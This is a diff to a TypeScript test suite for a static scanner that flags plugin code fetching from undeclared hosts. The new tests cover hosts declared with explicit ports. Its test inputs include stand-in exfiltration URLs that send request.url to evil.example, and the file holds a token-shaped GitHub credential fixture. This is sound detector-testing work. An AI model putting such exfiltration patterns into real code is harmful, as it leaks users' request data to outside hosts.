@@ -11,8 +11,11 @@ const GITHUB_TOKEN = ['ghp', '_', 'Kd83hfSk29dLq0aZm4xV7wYb1nCt5uR6eJpG'].join('
 
 const bundle = (body: string, handler = 'return 1;') =>
   `(() => {\n${body}\nglobalThis.__gatehouse_define({ routes: { "GET /": async (request, { kv }) => {\n${handler}\n} } });\n})();\n`;
-const scan = (code: string, sourceMap: ScannedRelease['sourceMap'] = null): Promise<Finding[]> =>
-  scanCode({ manifest, code, sourceMap }, { otherPlugins: [], nowMs: () => performance.now(), onProgress: () => {} });
+const scan = (code: string, sourceMap: ScannedRelease['sourceMap'] = null, of = manifest): Promise<Finding[]> =>
+  scanCode(
+    { manifest: of, code, sourceMap },
+    { otherPlugins: [], nowMs: () => performance.now(), onProgress: () => {} },
+  );
 const mapOf = (files: Record<string, string>) =>
   JSON.stringify({
     version: 3,
@@ -106,6 +109,16 @@ describe('The static scan', function () {
     expect(await sent('"https://eu" + request.url.length + ".shop.example/orders"')).to.equal(0);
     expect(await sent('"https://evil.example" + request.url')).to.equal(1);
     expect(await sent('`https://evil/${request.url}`')).to.equal(1);
+    expect(await sent('`https://evil.example:${request.url.length}/`')).to.equal(1);
+  });
+
+  it('knows a host that is declared with its usual port', async () => {
+    const fetchHosts = ['shop.example:443', '*.cdn.example:443', 'api.example:8443'];
+    const sent = async (host: string) =>
+      (await scan(bundle('', `return fetch("https://${host}/");`), null, { ...manifest, fetchHosts })).length;
+    for (const host of ['shop.example', 'shop.example:443', 'a.cdn.example', 'api.example:8443'])
+      expect(await sent(host), host).to.equal(0);
+    for (const host of ['shop.example:8443', 'api.example']) expect(await sent(host), host).to.equal(1);
   });
 
   it('reads texts in backticks as others', async () => {
